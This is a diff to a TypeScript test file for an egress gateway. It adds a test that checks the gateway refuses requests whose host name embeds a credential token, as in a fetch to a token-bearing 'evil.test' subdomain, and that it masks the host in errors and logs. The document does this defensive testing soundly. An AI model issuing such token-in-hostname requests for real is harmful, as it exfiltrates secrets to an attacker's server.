@@ -1,5 +1,6 @@
 import { gzipSync } from 'node:zlib'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import type { EgressSession } from '../../../src/main/egress/egress.ts'
 import { createEgressFixture, type EgressFixture, TOKEN } from '../../support/egress-fixture.ts'
 
 let door: EgressFixture
@@ -171,6 +172,17 @@ describe('a request through the door', () => {
     expect(told).toMatchObject([{ method: 'GET', host: local(wire.port), outcome: 'refused', app: 'vendor' }])
     expect(uses).toEqual([{ host: local(wire.port), outcome: 'refused' }])
     expect(JSON.stringify(told)).not.toContain(TOKEN)
+  })
+
+  it.each<[string, (session: EgressSession) => Promise<unknown>]>([
+    ['an address', session => session.fetch(`https://x-${TOKEN}.evil.test/`)],
+    ['a connection', session => session.connect({ host: `${TOKEN}.evil.test`, port: 5432 })],
+  ])('[S-CR-4] of %s whose host holds the credential does not even name that host', async (_what, send) => {
+    const { session, told, uses } = door.open({ secrets: [TOKEN.toUpperCase()] })
+    const error: unknown = await send(session).catch((thrown: unknown) => thrown)
+    expect(error).toMatchObject({ code: 'auth.host-not-allowed' })
+    expect(uses).toEqual([{ host: '•••', outcome: 'refused' }])
+    expect(JSON.stringify([String(error), error, told, uses])).not.toMatch(new RegExp(TOKEN, 'i'))
   })
 
   it('that can’t reach anybody says why, and may be tried again', async () => {
